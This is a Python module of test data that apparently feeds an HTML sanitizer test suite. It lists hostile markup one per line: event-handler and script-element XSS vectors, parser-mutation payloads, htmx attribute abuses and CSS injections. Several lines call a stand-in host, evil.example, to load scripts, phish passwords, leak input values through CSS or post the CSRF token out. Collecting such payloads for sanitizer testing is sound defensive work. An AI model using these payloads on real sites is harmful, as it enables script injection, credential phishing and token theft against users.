"""Hostile markup by what it tries, one a line. Whatever gets through calls `hit()`, or shows in the document."""

from itertools import product


def lines(block):
    return block.strip("\n").split("\n")


HANDLERS = lines(r"""
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror='hit()'>
<img src=x onerror=`hit()`>
<img/src/onerror=hit()>
<img src=x onerror=hit()//
<IMG SRC=x OnErRoR=hit()>
<img src=x:x onerror&#61;hit()>
<img src=x onerror=&#104;it()>
<img srcset=x onerror=hit()>
<image src=x onerror=hit()>
<svg onload=hit()>
<svg/onload=hit()>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set onbegin=hit() attributename=x>
<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></foreignObject></svg>
<body onload=hit()>
<body onpageshow=hit()>
<html onmouseover=hit()>
<frameset onload=hit()><frame src=javascript:hit()></frameset>
<iframe onload=hit()>
<iframe src=javascript:parent.hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<object data=javascript:hit()></object>
<object data="data:text/html,<script>parent.hit()</script>"></object>
<embed src=javascript:hit()>
<embed src="data:text/html,<script>parent.hit()</script>">
<applet code=x onerror=hit()></applet>
<input autofocus onfocus=hit()>
<input type=image src=x onerror=hit()>
<select autofocus onfocus=hit()><option>x</select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<button autofocus onfocus=hit()>x</button>
<button popovertarget=p onclick=hit()>x</button><div popover id=p onbeforetoggle=hit()>x</div>
<details open ontoggle=hit()><summary>x</summary></details>
<dialog open onclose=hit()>x</dialog>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()></audio>
<marquee onstart=hit()>x</marquee>
<marquee loop=1 width=0 onfinish=hit()>x</marquee>
<meter onmouseover=hit()>x</meter>
<div onmouseover=hit() onclick=hit() onfocus=hit() tabindex=0>x</div>
<div onpointerenter=hit()>x</div>
<div style="animation:x 1s" onanimationstart=hit()>x</div>
<div style="transition:1s" ontransitionend=hit()>x</div>
<div contenteditable oninput=hit() onfocus=hit()>x</div>
<div hidden=until-found onbeforematch=hit()>x</div>
<p oncontentvisibilityautostatechange=hit() style=content-visibility:auto>x</p>
<a onclick=hit() href=#>x</a>
<table background=javascript:hit()><td background=javascript:hit()>x</table>
<style onload=hit()></style>
<link rel=stylesheet href=data:text/css,x onload=hit()>
<custom-element onclick=hit() tabindex=1>x</custom-element>
<xss onafterscriptexecute=hit()><script>1</script></xss>
""")

ELEMENTS = lines(r"""
<script>hit()</script>
<script >hit()</script >
<SCRIPT>hit()</SCRIPT>
<script/x>hit()</script>
<script src=//evil.example/x.js></script>
<script src=data:text/javascript,hit()></script>
<script type=module>hit()</script>
<script type=importmap>{"imports":{"x":"data:text/javascript,hit()"}}</script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
<script<!-- -->>hit()</script>
<script><!-- hit() --></script>
<script>hit()
<svg><script>hit()</script></svg>
<svg><script href=data:text/javascript,hit() /></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<math><mi xlink:href="javascript:hit()">x</mi></math>
<math href="javascript:hit()">x</math>
<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=htmx-config content='{"allowScriptTags":true}'>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>hit()</script>>
<link rel=prefetch href=//evil.example/>
<template><script>hit()</script></template>
<template shadowrootmode=open><img src=x onerror=hit()></template>
<noscript><img src=x onerror=hit()></noscript>
<noembed><img src=x onerror=hit()></noembed>
<xmp><img src=x onerror=hit()></xmp>
<plaintext>hit()
<title><img src=x onerror=hit()></title>
<textarea></textarea><img src=x onerror=hit()>
<form action=//evil.example/><input name=password><button>Sign in again</button></form>
<form action=javascript:hit()><input type=submit></form>
<form><button formaction=javascript:hit()>x</button></form>
<button form=editor formaction=//evil.example/>x</button>
<input form=comment-form name=body value=spam>
<isindex action=javascript:hit() type=image>
<a href=javascript:hit()>x</a>
<a href=# target=_blank ping=//evil.example/>x</a>
<a href=//evil.example/ download=x.exe>x</a>
<area shape=default href=javascript:hit()>
<portal src=//evil.example/></portal>
<fencedframe src=//evil.example/></fencedframe>
<object type=text/x-scriptlet data=//evil.example/></object>
<?xml version="1.0"?><?xml-stylesheet href="javascript:hit()"?>
<?php echo 1 ?>
<% hit() %>
<![CDATA[<script>hit()</script>]]>
<!-- <img src=x onerror=hit()> -->
<!--><img src=x onerror=hit()>-->
<!--[if IE]><script>hit()</script><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>hit()</script>">]>&y;
</div></main><script>hit()</script>
</p></div></article><h1 id=main>x</h1>
""")

MUTATIONS = lines(r"""
<noscript><p title="</noscript><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror="hit()"></style></annotation-xml></math>
<svg><title><style><img src=x onerror=hit()></style></title></svg>
<table><caption><svg><title><table><style><img src=x onerror=hit()></style></table></title></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=hit()>">
<p><style><!--<img src="--><img src=x onerror=hit()//">
<a><b><a><b><a><svg><p><img src=x onerror=hit()>
<img alt="`><img src=x onerror=hit()>">
<img src="x` `<script>hit()</script>"` `>
<textarea><!--</textarea><img src=x onerror=hit()>--></textarea>
<title><!--</title><img src=x onerror=hit()>--></title>
<iframe><!--</iframe><img src=x onerror=hit()>--></iframe>
<xmp><!--</xmp><img src=x onerror=hit()>--></xmp>
<b <script>hit()</script>0
<img src=x title="a>b" onerror=hit()>
<div id="a<img src=x onerror=hit()>">
<svg xmlns="x"><script xmlns="http://www.w3.org/1999/xhtml">hit()</script></svg>
<math xmlns="x"><a xlink:href="javascript:hit()">x</a></math>
""")

OF_HTMX = lines(r"""
hx-get=/settings hx-trigger=load
hx-post=/logout hx-trigger=load
hx-delete=/ hx-trigger="every 1s"
hx-get=//evil.example/ hx-trigger=revealed
hx-on:click=hit()
hx-on::load=hit()
hx-on:htmx:after:init=hit()
hx-on--load=hit()
hx-vals='js:{x:hit()}'
hx-headers='js:{x:hit()}'
hx-trigger="load[hit()]"
hx-get=/ hx-target=body hx-swap=outerHTML hx-trigger=load
hx-get=/ hx-select=#main hx-target="#main" hx-trigger=load
hx-swap-oob=true id=main
hx-boost=true href=//evil.example/
hx-ws:connect=//evil.example/live
hx-sse:connect=//evil.example/
hx-preserve id=comments
hx-config='{"action":"//evil.example/"}'
hx-action=/settings hx-method=post hx-trigger=load
hx-confirm="js:hit()"
hx-include="[name=csrfmiddlewaretoken]" hx-post=//evil.example/ hx-trigger=load
hx-inherit=* hx-disable
data-live=x data-at=0 data-count=comments
data-article=x data-position=999
data-announce data-done=x data-keep=x data-reveal=id_password
""")
HTMX = [f"<{tag} {words}>x</{tag}>" for tag, words in product(("b", "a", "div"), OF_HTMX)]
HTMX += [f"<b {words.replace('hx-', 'data-hx-')}>x</b>" for words in OF_HTMX if "hx-" in words]
HTMX += lines(r"""
<hx-partial hx-target="#main" hx-swap=innerHTML><img src=x onerror=hit()></hx-partial>
<htmx-swap target=body>x</htmx-swap>
<template hx type=partial hx-target=#main>x</template>
[x](/settings "hx-get=/settings hx-trigger=load")
![x](/a.png "x' hx-get='/settings' hx-trigger='load")
# x {hx-get=/settings hx-trigger=load}
""")

STYLES = lines(r"""
<style>body{display:none}</style>
<style>@import '//evil.example/x.css';</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<div style="position:fixed;inset:0;z-index:9;background:#fff">Sign in again</div>
<div style="background:url(//evil.example/x.png)">x</div>
<div style="background:url(javascript:hit())">x</div>
<div style="width:expression(hit())">x</div>
<div style="-moz-binding:url(//evil.example/x#y)">x</div>
<p class="cx-undo btn btn-primary">x</p>
<p class="cx-skip navbar">x</p>
<i class="ion-trash-a">x</i>
<p class="is-gone cx-hidden highlight">x</p>
<font color=red size=7>x</font>
<center><blink>x</blink></center>
# x {.navbar}
# x {: .cx-bar style="color:red"}
| x |{style=color:red}
![x](https://images.example/a.png){width=9999 .cx-bar}
""")
